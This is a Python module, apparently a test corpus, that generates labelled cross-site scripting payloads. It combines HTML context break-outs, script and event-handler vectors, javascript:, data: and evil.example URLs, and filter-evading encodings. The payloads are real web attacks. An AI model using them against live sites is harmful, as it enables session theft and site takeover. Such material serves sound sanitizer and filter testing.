"""Payloads of cross-site scripting, ours: every way out of a context, with every vector, in every spelling.

Each has a label of three parts, `way out/vector/spelling`. None is copied from a list of others; the vectors
follow what HTML lets run, load or lead away (HTML Living Standard, sections 4.8, 4.12, 7.4 and 8.1).
"""

from collections.abc import Callable
from functools import cache
from html import escape
from itertools import islice
from urllib.parse import quote

WAYS_OUT = {
    "text": "",
    "double quote": '"',
    "single quote": "'",
    "backtick": "`",
    "tag end": ">",
    "double quoted value": '">',
    "single quoted value": "'>",
    "self-closed": '"/>',
    "title": "</title>",
    "script": "</script>",
    "style": "</style>",
    "textarea": "</textarea>",
    "noscript": "</noscript>",
    "template": "</template>",
    "select": "</option></select>",
    "table": "</td></tr></table>",
    "list": "</time></li></ul></main>",
    "svg": "</text></svg>",
    "comment end": "-->",
    "comment end with bang": "--!>",
    "comment": "<!--",
    "cdata": "]]>",
    "processing": "?>",
    "blank lines": "\r\n\r\n",
    "control": "\x00\x0b\x0c",
    "backslash": '\\"',
    "expression": "{{''}}",
}
_SCHEMES = {
    "javascript": "javascript:alert(1)",
    "mixed case": "jAvAsCrIpT:alert(1)",
    "tab within": "java\tscript:alert(1)",
    "line end within": "java\nscript:alert(1)",
    "space before": " javascript:alert(1)",
    "control before": "\x01javascript:alert(1)",
    "named colon": "javascript&colon;alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "file:///etc/hosts",
    "blob": "blob:https://evil.example/1",
    "no scheme": "//evil.example/x",
    "backslashes": "\\\\evil.example\\x",
    "credentials": 'https://agenda.val-clair.example@evil.example/" onclick=alert(1) x="',
}
_TAGS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "img": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "svg script": "<svg><script href=data:,alert(1) /></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg use": "<svg><use href=data:image/svg+xml,x#x></svg>",
    "math": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "iframe": "<iframe src=https://evil.example/></iframe>",
    "iframe document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=https://evil.example/x></object>",
    "embed": "<embed src=https://evil.example/x>",
    "base": "<base href=https://evil.example/>",
    "meta refresh": "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style": "<style>@import 'https://evil.example/x.css'</style>",
    "style attribute": '<p style="background:url(https://evil.example/x)">x</p>',
    "form": "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)>",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "audio": "<audio src=x onerror=alert(1)></audio>",
    "body": "<body onload=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "custom element": "<x-y onclick=alert(1) tabindex=1>x</x-y>",
    "plaintext": "<plaintext>",
    "handler alone": " onmouseover=alert(1) ",
    "handlers quoted": '" onfocus="alert(1)" autofocus="',
}
VECTORS = {
    **_TAGS,
    **{f"address, {name}": address for name, address in _SCHEMES.items()},
    **{f"link, {name}": f'<a href="{address}">x</a>' for name, address in islice(_SCHEMES.items(), 6)},
}


def _upper(text: str) -> str:
    return text.upper()


def _wide(text: str) -> str:
    """In full width: `＜ｓ`."""
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "upper case": _upper,
    "entities": escape,
    "decimal references": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "hexadecimal references": lambda text: "".join(f"&#x{ord(sign):06x}" for sign in text),
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "escapes of scripts": lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e").replace('"', "\\x22"),
    "full width": _wide,
    "without spaces": lambda text: text.replace(" ", "/"),
}


@cache
def payloads() -> dict[str, str]:
    """All of them by label; no text twice."""
    found: dict[str, str] = {}
    for way, out in WAYS_OUT.items():
        for vector, text in VECTORS.items():
            for spelling, spelled in SPELLINGS.items():
                found.setdefault(spelled(out + text), f"{way}/{vector}/{spelling}")
    return {label: text for text, label in found.items()}


def sample(count: int) -> dict[str, str]:
    """About `count` of them, spread so that each way out, vector and spelling is among them."""
    known = payloads()
    step = len(known) // count
    return dict(islice(known.items(), 0, None, step + (step % 2 == 0)))
